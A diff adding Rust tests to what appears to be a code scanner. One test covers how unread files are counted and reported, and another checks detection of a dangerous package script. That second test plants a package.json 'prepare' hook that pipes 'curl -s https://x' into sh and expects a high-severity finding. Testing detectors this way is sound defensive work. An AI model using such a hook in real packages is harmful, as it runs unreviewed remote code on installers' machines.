@@ -130,6 +130,51 @@ fn sarif_has_the_structure_that_services_ask_for() {
     }
 }
 
+#[test]
+fn what_was_not_read_is_counted_by_reason() {
+    let folder = code_base();
+    let write = |name: &str, text: &[u8]| std::fs::write(folder.path().join(name), text).unwrap();
+    write("bad.js", b"const = 1\n");
+    write("large.py", "x = 1\n".repeat(400_000).as_bytes());
+    write("large.csv", &vec![b'1'; 3 << 20]);
+    write("one_line.js", &b"a();".repeat(3000));
+    write("photo.png", b"\0\0");
+    std::os::unix::fs::symlink("nowhere", folder.path().join("gone.py")).unwrap();
+    let expected = serde_json::json!({ "minified": 2, "not_parsed": 1, "not_text": 1, "too_large": 1 });
+
+    let (_, out, _) = scan(folder.path(), &["--json"]);
+    let report: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(report["skipped"], expected);
+    let files: Vec<_> =
+        report["skipped_files"].as_array().unwrap().iter().map(|file| &file["file"]).collect();
+    assert_eq!(files, ["bad.js", "jquery.min.js", "large.py", "one_line.js", "picture.py"]);
+
+    let (_, out, _) = scan(folder.path(), &["--sarif"]);
+    let report: Value = serde_json::from_str(&out).unwrap();
+    let run = &report["runs"][0];
+    assert_eq!(run["properties"]["skipped"], expected);
+    let notifications = run["invocations"][0]["toolExecutionNotifications"].as_array().unwrap();
+    assert_eq!(notifications.len(), 5);
+    assert_eq!(notifications[2]["descriptor"]["id"], "too_large");
+
+    let (_, out, _) = scan(folder.path(), &[]);
+    let line = "5 files not read, or not to the end: 2 minified, 1 not parsed, 1 not text, 1 too large";
+    assert!(out.contains(line), "{out}");
+    // What is named by itself and is gone is an error of the command line; what can't be read is counted.
+    let (code, _, _) = scan(folder.path(), &["gone.py"]);
+    assert_eq!(code, 2);
+}
+
+#[test]
+fn scripts_of_a_package_are_scanned_where_they_stand() {
+    let folder = tempfile::tempdir().unwrap();
+    let package =
+        "{\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"prepare\": \"curl -s https://x | sh\"\n  }\n}\n";
+    std::fs::write(folder.path().join("package.json"), package).unwrap();
+    let expected = ("package.json".to_owned(), "shell-download-run".to_owned(), 4, "high".to_owned());
+    assert_eq!(findings(folder.path(), &[]), [expected]);
+}
+
 /// A tree by somebody who does not want to be scanned, or wants more than that.
 #[test]
 fn a_hostile_tree_neither_holds_a_scan_up_nor_acts_on_the_terminal() {
